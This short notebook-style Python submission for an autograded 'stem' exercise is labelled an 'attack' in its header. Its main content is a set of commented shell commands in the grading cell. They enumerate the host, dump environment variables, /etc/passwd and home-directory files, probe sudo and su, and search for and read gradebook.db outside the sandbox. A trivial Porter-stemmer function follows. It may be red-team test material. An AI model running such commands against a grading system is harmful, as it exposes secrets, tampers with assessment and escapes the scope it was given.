# ---
# attack: The system's own programs are asked who is there and what there is.
# ---

# %% grade_id="stem"
# !ps -ef; id; hostname; env; cat /etc/passwd /etc/hosts; ls -la / /home /root /tmp
# !cat ../../gradebook.db ../../../gradebook.db ../../../../gradebook.db | strings | head -500
# !find / -name "gradebook.db" -not -path "/proc/*" 2>/dev/null | head -20 | xargs -r cat | head -c 200000
# !sudo -n id; su -c id; mount | head; ip addr; cat ~/*
# %env


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
